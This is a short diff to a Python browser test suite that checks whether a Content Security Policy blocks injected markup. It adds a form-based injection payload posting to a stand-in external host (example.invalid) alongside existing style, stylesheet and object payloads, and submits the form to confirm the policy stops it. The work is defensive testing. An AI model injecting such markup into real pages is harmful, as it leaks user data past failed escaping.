@@ -146,6 +146,7 @@ def test_the_browser_notices_what_it_must_not_find(chromium: Any, tmp_path: Path
         "<style>body{background:url(https://example.invalid/a.png)}</style>",
         "<link rel='stylesheet' href='https://example.invalid/a.css'>",
         "<object data='https://example.invalid/a'></object>",
+        "<form id=leak action='https://example.invalid/a'><input name=a></form>",
     ],
 )
 def test_the_policy_holds_even_where_escaping_would_fail(
@@ -157,6 +158,9 @@ def test_the_policy_holds_even_where_escaping_would_fail(
     )
     with visit(chromium, page) as opened:
         assert attack.partition(" ")[0].strip("<>") in opened.page.content()
+        if "<form" in attack:  # nobody but a reader sends a form
+            opened.page.evaluate("document.getElementById('leak').submit()")
+            opened.page.wait_for_timeout(200)
         assert not opened.ran()
         assert opened.asked == []
         assert any("Content Security Policy" in text for text in opened.complaints)
